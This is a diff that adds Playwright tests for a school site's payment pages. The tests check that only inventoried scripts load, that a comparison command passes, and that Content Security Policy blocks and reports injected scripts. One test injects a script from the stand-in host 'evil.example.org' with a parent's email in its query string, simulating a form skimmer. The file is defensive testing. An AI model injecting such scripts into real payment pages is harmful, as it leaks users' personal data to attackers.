@@ -1,0 +1,114 @@
+import { execFile } from 'node:child_process';
+import { promisify } from 'node:util';
+import { expect, type Page, test } from '@playwright/test';
+import { z } from 'zod';
+import { paymentScripts } from '@/content/payment-scripts';
+import { type Found, isListed } from '@/scripts/payment-scripts/listed';
+import * as donation from './support/donation';
+import { openOwnSchool } from './support/own-school';
+import * as registration from './support/registration';
+import { startTls } from './support/tls';
+
+// Chromium gathers reports for a minute, with this it sends them at once; and over TLS alone, here
+// with a certificate of the test's own.
+const REPORTING = ['--short-reporting-delay', '--ignore-certificate-errors'];
+test.use({
+  ignoreHTTPSErrors: true,
+  launchOptions: async ({ launchOptions }, use) =>
+    use({ ...launchOptions, args: [...(launchOptions.args ?? []), ...REPORTING] }),
+});
+
+/** Every script file that the page asks for, and at the end the scripts that stand in it. */
+function collectScripts(page: Page) {
+  const addresses = new Set<string>();
+  page.on('request', (request) => {
+    if (request.resourceType() === 'script') addresses.add(request.url());
+  });
+  return async (): Promise<Found[]> => {
+    const inline = await page.evaluate(() => {
+      const types = ['', 'module', 'text/javascript'];
+      return [...document.scripts]
+        .filter(({ src, type }) => src === '' && types.includes(type))
+        .map(({ text }) => text);
+    });
+    return [
+      ...[...addresses].map((address) => ({ address })),
+      ...inline.map((text) => ({ inline: text })),
+    ];
+  };
+}
+
+const journeys: Record<string, (page: Page) => Promise<void>> = {
+  '/register': async (page) => {
+    await registration.registerPaid(page);
+  },
+  '/donate-register': async (page) => {
+    await donation.reachReview(page);
+    await donation.openCheckout(page);
+    await donation.payInCheckout(page);
+    await expect(donation.success(page)).toBeVisible();
+  },
+};
+
+for (const [path, walk] of Object.entries(journeys)) {
+  test(`${path} loads the scripts of the inventory and nothing else`, async ({ page }) => {
+    const scripts = collectScripts(page);
+    await walk(page);
+    const site = new URL(page.url()).origin;
+    const found = await scripts();
+    expect(found.filter((one) => !isListed(one, site))).toEqual([]);
+    // What no page loads does not belong into the inventory; the provider's hosts are not asked here.
+    const texts = found.map((one) =>
+      'inline' in one ? one.inline : new URL(one.address).pathname,
+    );
+    for (const listed of paymentScripts) {
+      if ('host' in listed) continue;
+      const start =
+        'path' in listed ? listed.path : 'inline' in listed ? listed.inline : listed.starter;
+      expect(texts.some((text) => text.startsWith(start.split('*', 1)[0] ?? ''))).toBe(true);
+    }
+  });
+}
+
+const run = (...args: string[]) =>
+  promisify(execFile)('node_modules/.bin/tsx', ['scripts/check-payment-scripts.ts', ...args]);
+
+test('the command that compares a deployed site with the inventory finds nothing here', async ({
+  baseURL,
+}) => {
+  const { stdout } = await run(baseURL ?? '');
+  expect(stdout).toBe(
+    '/register and /donate-register load what the inventory names, and nothing else.\n',
+  );
+  await expect(run('no-address')).rejects.toMatchObject({ code: 1 });
+});
+
+const reported = z.array(
+  z.object({ page: z.string(), directive: z.string(), blocked: z.string() }),
+);
+
+test('a script that comes into a payment page is blocked, and the site hears of it', async ({
+  page,
+}) => {
+  const school = await openOwnSchool();
+  const tls = await startTls(school.url);
+  await page.goto(`${tls.url}/donate-register`);
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.src = 'https://evil.example.org/a.js?email=parent@example.org';
+    document.head.append(script);
+  });
+  const list = async () =>
+    reported.parse(await (await page.request.get(`${school.url}/api/csp-reports`)).json());
+  await expect.poll(list).toContainEqual({
+    page: '/donate-register',
+    directive: 'script-src-elem',
+    blocked: 'https://evil.example.org/a.js',
+  });
+  const metrics = await (await page.request.get(`${school.url}/api/metrics`)).text();
+  expect(metrics).toMatch(
+    /site_csp_reports_total\{page="\/donate-register",directive="script-src-elem"\} [1-9]/,
+  );
+  tls.close();
+  await school.close();
+});
